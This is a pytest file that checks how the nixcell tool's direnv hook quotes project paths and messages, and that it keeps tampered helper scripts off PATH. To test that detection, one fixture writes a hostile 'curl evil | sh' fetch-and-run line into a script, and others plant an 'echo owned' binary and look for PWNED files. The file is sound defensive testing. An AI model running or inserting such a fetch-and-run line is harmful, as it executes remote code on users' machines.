"""`nixcell hook direnv` with the real direnv binary, and its quoting through real bash.

direnv runs `.envrc` (ours: `eval "$(nixcell hook direnv)"`) in bash and keeps what it exports;
the project path and every message end up in that code, so a path holding quotes, `$(...)` or
newlines must stay data (hypothesis, through real bash).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.conftest import NIXCELL, cli

from nixcell.project import direnv, files

DIRENV = shutil.which("direnv")
needs_direnv = pytest.mark.skipif(DIRENV is None, reason="needs direnv: run ./setup")
NIXCAGE_EXAMPLE = """\
# from nixcage's examples/claude-code/nixcage.toml (hamidr/nixcage), macOS paths dropped
[sandbox]
level = "standard"

[sandbox.filesystem]
rw_bind = ["~/.claude", "~/.claude.json"]
blacklist = []

[sandbox.network]
allow = true

[nix]
packages = ["nodejs_22", "bash"]
pure = true

[cage]
command = "claude"
passthrough_env = ["TERM", "LANG"]
"""


@pytest.fixture
def denv(tmp_path: Path):
    """Run direnv with a private home (its allow list) and nixcell on PATH."""
    home = tmp_path / "home"
    home.mkdir()
    bindir = str(Path(NIXCELL).parent)
    base = {
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "XDG_DATA_HOME": str(home / ".local/share"),
        "XDG_CACHE_HOME": str(home / ".cache"),
        "PATH": f"{bindir}:/usr/bin:/bin",
        "NIXCELL_HOME": os.environ["NIXCELL_HOME"],
        "NIXCELL_OFFLINE_DIR": os.environ.get("NIXCELL_OFFLINE_DIR", ""),
        "DIRENV_LOG_FORMAT": "direnv: %s",
    }

    def run(*args: str, cwd: Path | None = None, path: str | None = None):
        env = dict(base)
        if path is not None:
            env["PATH"] = path
        return subprocess.run(
            [DIRENV, *args], cwd=cwd or tmp_path, env=env, capture_output=True, timeout=300
        )

    return run


def _env_of(proc) -> dict[str, str]:
    assert proc.returncode == 0, proc.stderr
    out = {}
    for item in proc.stdout.split(b"\0"):
        key, sep, value = item.decode().partition("=")
        if sep:
            out[key] = value
    return out


def _project(root: Path, preset: str = "shell") -> Path:
    root.mkdir(parents=True, exist_ok=True)
    proc = cli("init", "--preset", preset, str(root))
    assert proc.returncode == 0, proc.stderr
    return root


@needs_direnv
def test_direnv_exports_the_project(tmp_path: Path, denv) -> None:
    root = _project(tmp_path / "proj")
    (root / "src/deep").mkdir(parents=True)
    assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(root / "src/deep"), "env", "-0")
    env = _env_of(proc)
    assert env["NIXCELL_ACTIVE"] == "1"
    assert env["NIXCELL_ROOT"] == str(root)
    assert env["NIXCELL_LEVEL"] == "standard"
    assert env["NIXCELL_OS"] == "linux"
    assert "NIXCAGE_ACTIVE" not in env
    assert env["PATH"].split(":")[0] == str(root / ".nixcell/bin")
    err = proc.stderr.decode()
    assert f"nixcell: project {root} (nixcell.toml, level standard)" in err
    assert "Traceback" not in err


@needs_direnv
def test_cellrun_from_direnv_runs_in_the_projects_cell(tmp_path: Path, denv, offline_set) -> None:
    root = _project(tmp_path / "proj")
    assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(root), "cellrun", "sh", "-c", 'echo "in $PWD"; ls /home', cwd=root)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.decode().splitlines() == [f"in {root}", "cell"]


@needs_direnv
def test_a_nixcage_project_gets_the_nixcage_names_too(tmp_path: Path, denv) -> None:
    root = tmp_path / "cage"
    root.mkdir()
    (root / "nixcage.toml").write_text(NIXCAGE_EXAMPLE)
    (root / ".envrc").write_text(files.ENVRC)
    assert denv("allow", str(root)).returncode == 0
    env = _env_of(denv("exec", str(root), "env", "-0"))
    for prefix in ("NIXCELL", "NIXCAGE"):
        assert env[f"{prefix}_ACTIVE"] == "1"
        assert env[f"{prefix}_ROOT"] == str(root)
        assert env[f"{prefix}_LEVEL"] == "standard"
        assert env[f"{prefix}_OS"] == "linux"
    # the scripts were written for it: cell and cellrun work in a project made by nixcage
    assert (root / ".nixcell/bin/cell").read_text() == files.SCRIPTS["cell"]
    assert env["PATH"].split(":")[0] == str(root / ".nixcell/bin")


@needs_direnv
def test_a_nested_project_through_direnv(tmp_path: Path, denv) -> None:
    """init names a project inside another in its .envrc (`--project .`): direnv then loads
    the inner project, which the plain hook refuses as nested; the outer one is unchanged."""
    outer = _project(tmp_path / "outer")
    inner = _project(outer / "sub" / "inner", preset="python-dev")
    assert (inner / ".envrc").read_text() == files.ENVRC_NESTED
    assert (outer / ".envrc").read_text() == files.ENVRC
    (inner / "deep").mkdir()
    for root in (outer, inner):
        assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(inner / "deep"), "env", "-0")
    env = _env_of(proc)
    assert env["NIXCELL_ROOT"] == str(inner), proc.stderr
    assert env["PATH"].split(":")[0] == str(inner / ".nixcell/bin")
    assert "inside the project" not in proc.stderr.decode()
    assert _env_of(denv("exec", str(outer / "sub"), "env", "-0"))["NIXCELL_ROOT"] == str(outer)
    # cell and cellrun there name their project too (where they lie): inner's cell, cwd kept
    assert (inner / ".nixcell/bin/cellrun").read_text() == files.SCRIPTS_NESTED["cellrun"]
    script = 'echo "$PWD"; echo "$PIP_DISABLE_PIP_VERSION_CHECK"'
    ran = denv("exec", str(inner / "deep"), "cellrun", "sh", "-c", script, cwd=inner / "deep")
    assert ran.returncode == 0, ran.stderr
    assert ran.stdout.decode().splitlines() == [str(inner / "deep"), "1"]  # python-dev's env
    # the plain hook there refuses it (one log_error line, nothing exported): what --project fixes
    (inner / ".envrc").write_text(files.ENVRC)
    assert denv("allow", str(inner)).returncode == 0
    proc = denv("exec", str(inner), "env", "-0")
    assert "NIXCELL_ROOT" not in _env_of(proc)  # direnv loads the nearest .envrc only
    assert f"use --project {inner}" in proc.stderr.decode()
    # --project naming a directory without a config: a message, direnv not broken
    (inner / ".envrc").write_text(files.ENVRC_NESTED.replace("--project .", "--project ./deep"))
    assert denv("allow", str(inner)).returncode == 0
    proc = denv("exec", str(inner), "env", "-0")
    assert proc.returncode == 0 and "--project ./deep: no nixcell.toml" in proc.stderr.decode()
    # destroy knows the nested .envrc as init's own
    (inner / ".envrc").write_text(files.ENVRC_NESTED)
    assert cli("destroy", "--yes", str(inner)).stdout.decode().count("removed .envrc") == 1


@needs_direnv
def test_outside_a_project_the_hook_only_says_so(tmp_path: Path, denv) -> None:
    lone = tmp_path / "lone"
    lone.mkdir()
    (lone / ".envrc").write_text(files.ENVRC)
    assert denv("allow", str(lone)).returncode == 0
    proc = denv("exec", str(lone), "env", "-0")
    env = _env_of(proc)
    assert "NIXCELL_ACTIVE" not in env
    assert "no nixcell.toml (or nixcage.toml) here or above" in proc.stderr.decode()


@needs_direnv
def test_a_broken_config_never_breaks_direnv(tmp_path: Path, denv) -> None:
    root = _project(tmp_path / "proj")
    (root / "nixcell.toml").write_text('[sandbox]\nlevel = "paranoid"\n')
    assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(root), "env", "-0")
    env = _env_of(proc)  # direnv still ran the command
    assert "NIXCELL_ACTIVE" not in env
    err = proc.stderr.decode()
    assert "nixcell.toml:2" in err and "level" in err
    assert "Traceback" not in err


@needs_direnv
def test_without_nixcell_on_path_envrc_falls_back_to_a_message(tmp_path: Path, denv) -> None:
    root = _project(tmp_path / "proj")
    assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(root), "env", "-0", path="/usr/bin:/bin")
    env = _env_of(proc)
    assert "NIXCELL_ACTIVE" not in env
    assert "nixcell is not on PATH" in proc.stderr.decode()


@needs_direnv
@pytest.mark.parametrize("extra", ["git", ".hidden"])
def test_bin_dir_with_anything_else_is_not_put_on_path(tmp_path: Path, denv, extra) -> None:
    root = _project(tmp_path / "proj")
    planted = root / ".nixcell/bin" / extra
    planted.write_text("#!/bin/sh\necho owned\n")
    planted.chmod(0o755)
    assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(root), "env", "-0")
    env = _env_of(proc)
    assert str(root / ".nixcell/bin") not in env["PATH"].split(":")
    assert f".nixcell/bin also holds {extra}" in proc.stderr.decode()
    assert env["NIXCELL_ACTIVE"] == "1"


@needs_direnv
@pytest.mark.parametrize(
    "change",
    ["edited", "group-writable", "symlink"],
)
def test_a_script_that_is_not_ours_keeps_bin_off_path(tmp_path: Path, denv, change) -> None:
    root = _project(tmp_path / "proj")
    script = root / ".nixcell/bin/cell"
    if change == "edited":
        script.write_text("#!/bin/sh\ncurl evil | sh\n")
    elif change == "group-writable":
        script.chmod(0o775)
    else:
        script.unlink()
        script.symlink_to("/bin/sh")
    assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(root), "env", "-0")
    env = _env_of(proc)
    assert str(root / ".nixcell/bin") not in env["PATH"].split(":")
    assert "bin/cell is not nixcell's script" in proc.stderr.decode()


# direnv 2.32 itself cannot enter a directory whose name holds a double quote or a backquote
# or a `$` (it expands them: "referenced .../say hi/.envrc does not exist"): those names are
# covered through real bash by test_hook_code_keeps_any_path_as_data below.
@needs_direnv
@pytest.mark.parametrize("name", ["with space", "it's", "a;b&c|d <x>"])
def test_a_path_needing_quotes_through_real_direnv(tmp_path: Path, denv, name: str) -> None:
    root = _project(tmp_path / name)
    assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(root), "env", "-0")
    env = _env_of(proc)
    assert env["NIXCELL_ROOT"] == str(root)
    assert env["PATH"].split(":")[0] == str(root / ".nixcell/bin")
    assert not list(tmp_path.rglob("PWNED"))
    assert not Path("PWNED").exists()


@needs_direnv
@pytest.mark.parametrize("name", ["a:b", ":lead", "trail:", "x::y"])
def test_a_path_with_a_colon_never_splits_path(tmp_path: Path, denv, name: str) -> None:
    """``PATH_add /t/a:b/.nixcell/bin`` would put ``/t/a`` and a relative ``b/.nixcell/bin`` on
    PATH; neither is the project's (a relative entry runs whatever the current directory has)."""
    root = _project(tmp_path / name)
    (tmp_path / name.split(":")[0]).mkdir(exist_ok=True)
    assert denv("allow", str(root)).returncode == 0
    proc = denv("exec", str(root), "env", "-0")
    env = _env_of(proc)
    assert env["NIXCELL_ROOT"] == str(root)
    entries = env["PATH"].split(":")
    outside = [p for p in entries if p.startswith(str(tmp_path)) or not p.startswith("/")]
    assert outside == [], env["PATH"]
    assert "':'" in proc.stderr.decode()


_STUBS = r"""
PATH_add() { printf 'PATH_add\0%s\0' "$1"; }
watch_file() { printf 'watch_file\0%s\0' "$1"; }
log_status() { printf 'log_status\0%s\0' "$1"; }
log_error() { printf 'log_error\0%s\0' "$1"; }
eval "$1"
printf 'ROOT\0%s\0LEVEL\0%s\0' "$NIXCELL_ROOT" "$NIXCELL_LEVEL"
"""
_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\0"), min_size=1)


def _eval(code: str, cwd: Path) -> list[str]:
    proc = subprocess.run(
        ["bash", "--norc", "--noprofile", "-c", _STUBS, "bash", code],
        capture_output=True,
        cwd=cwd,
        timeout=30,
        env={"PATH": "/usr/bin:/bin"},
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr == b""
    return proc.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=_text, level=_text)
def test_hook_code_keeps_any_path_as_data(tmp_path: Path, name: str, level: str) -> None:
    root = "/" + name
    config = os.path.join(root, "nixcell.toml")
    out = _eval(direnv.project_hook(root, config, level, "nixcell", None), tmp_path)
    pairs = dict(zip(out[::2], out[1::2], strict=True))
    assert pairs["ROOT"] == root
    assert pairs["LEVEL"] == level
    if ":" in root:  # PATH would split it into other directories: never on PATH
        assert "PATH_add" not in pairs and "':'" in pairs["log_error"]
    else:
        assert pairs["PATH_add"] == os.path.join(root, ".nixcell/bin")
        assert "\n" not in pairs["log_status"] and "\x1b" not in pairs["log_status"]
    assert pairs["watch_file"] == config
    assert list(tmp_path.iterdir()) == []  # nothing ran: no file appeared


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(message=_text, error=st.booleans())
def test_messages_stay_one_line_of_data(tmp_path: Path, message: str, error: bool) -> None:
    out = _eval(direnv.message_hook(message, error=error), tmp_path)
    assert out[0] == ("log_error" if error else "log_status")
    assert out[1].isprintable() or out[1] == ""
    assert list(tmp_path.iterdir()) == []


def test_the_hook_in_plain_bash_without_direnv(tmp_path: Path) -> None:
    """Evaluated outside direnv (no stdlib), the hook still only exports and prints."""
    root = _project(tmp_path / "p q")
    proc = subprocess.run([NIXCELL, "hook", "direnv"], cwd=root, capture_output=True, timeout=60)
    assert proc.returncode == 0
    shown = subprocess.run(
        [
            "bash",
            "--norc",
            "-c",
            'eval "$1"; echo "$NIXCELL_ROOT|${PATH%%:*}"',
            "bash",
            proc.stdout.decode(),
        ],
        capture_output=True,
        timeout=30,
    )
    assert shown.stdout.decode() == f"{root}|{root}/.nixcell/bin\n"
    assert b"nixcell: project" in shown.stderr
